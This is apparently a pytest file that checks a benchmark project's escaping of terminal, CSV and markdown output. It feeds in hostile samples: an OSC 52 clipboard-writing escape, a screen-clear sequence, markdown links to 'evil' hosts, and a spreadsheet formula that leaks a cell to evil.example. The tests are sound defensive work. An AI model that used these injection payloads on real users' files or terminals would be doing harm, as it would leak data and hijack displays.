"""Probes: text from a config or a user's file cannot act in the place it is written to.

A display name ``=HYPERLINK(...)`` is a formula in a spreadsheet that opens a leaderboard CSV; markdown in a
name becomes an image or a link in a step summary; an escape sequence in an id or a path writes the
clipboard (OSC 52) or clears the screen when printed. Each sink escapes (:mod:`tycheon.textsafe`)."""

from __future__ import annotations

import csv
import gzip
import io
import unicodedata
from pathlib import Path
from types import SimpleNamespace

import markdown
from hypothesis import given
from hypothesis import strategies as st

from benchmarks.render.pages import Page
from benchmarks.render.site import LEADERBOARD_CSV, write_downloads
from benchmarks.run import main as run_main
from tycheon.textsafe import csv_cell, for_terminal, markdown_text

OSC52 = "\x1b]52;c;ZXZpbA==\x07"
CLEAR = "\x1b[2J\x1b[H"


def test_for_terminal_shows_escape_sequences_and_bidi_controls_as_text():
    assert for_terminal(f"id{OSC52}x") == "id\\x1b]52;c;ZXZpbA==\\x07x"
    assert for_terminal(CLEAR) == "\\x1b[2J\\x1b[H"
    assert for_terminal("a\u202eb\x9bc") == "a\\u202eb\\x9bc"  # right-to-left override, C1 CSI
    assert for_terminal("two\nlines\tand tab") == "two\nlines\tand tab"
    assert for_terminal("over\rwrite") == "over\\x0dwrite"
    assert for_terminal("a\nb", keep_newlines=False) == "a\\x0ab"


@given(st.text())
def test_for_terminal_leaves_no_control_character_and_is_idempotent(text):
    safe = for_terminal(text)
    assert all(c in "\n\t" or unicodedata.category(c) != "Cc" for c in safe)
    assert for_terminal(safe) == safe


def test_csv_cell_defuses_formulas_and_leaves_numbers_alone():
    for text in ('=HYPERLINK("http://x","click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("Naive (random walk)") == "Naive (random walk)"
    assert csv_cell(-0.5) == -0.5 and csv_cell(3) == 3 and csv_cell(None) is None and csv_cell(True) is True


@given(st.text())
def test_markdown_text_renders_as_the_literal_text_without_tags(text):
    html = markdown.markdown(markdown_text(text))
    for tag in ("<img", "<a ", "<script", "<h1", "<table", "<em", "<strong", "<code"):
        assert tag not in html


def test_markdown_text_keeps_a_link_and_an_image_as_text():
    html = markdown.markdown(markdown_text("![x](http://evil/x.png) [click](http://evil) <img src=x>"))
    assert "<img" not in html and "<a " not in html
    assert "![x](http://evil/x.png)" in html.replace("&lt;", "<")


def _row(**values):
    base = dict.fromkeys(LEADERBOARD_CSV)
    return SimpleNamespace(**{**base, **values})


def test_a_formula_display_name_is_text_in_the_leaderboard_csv(tmp_path):
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Naive")'
    lb = SimpleNamespace(
        dataset="d",
        protocol="rolling_origin",
        unit="series",
        demand_class="all",
        metric="mase",
        rows=[_row(rank=1, model_id="m", display_name=name, mean=-0.25)],
    )
    page = Page(
        path="b/x/leaderboard-all.md",
        template="leaderboard.md.j2",
        title="t",
        context={"panels": {"mase": {"lb": lb, "csv_all": "downloads/b-v0001-leaderboards.csv.gz"}}},
    )
    (tmp_path / "b" / "x").mkdir(parents=True)
    redirect, written = write_downloads(SimpleNamespace(names=[]), [page], tmp_path)
    assert written.name == "b-v0001-leaderboards.csv.gz" and redirect.name == "all-mase.html"
    rows = list(csv.DictReader(io.StringIO(gzip.decompress(written.read_bytes()).decode("utf-8"))))
    assert rows[0]["display_name"] == "'" + name
    assert rows[0]["mean"] == "-0.25" and rows[0]["metric"] == "mase"


def test_the_runner_prints_no_escape_sequence_from_a_config_path(tmp_path, capsys):
    config = tmp_path / f"evil{OSC52}{CLEAR}.toml"
    config.write_text('name = "x"\n', encoding="utf-8")
    assert run_main(["--config", str(config), "--results-dir", str(Path(tmp_path) / "r")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert "evil\\x1b]52;c;ZXZpbA==\\x07" in err
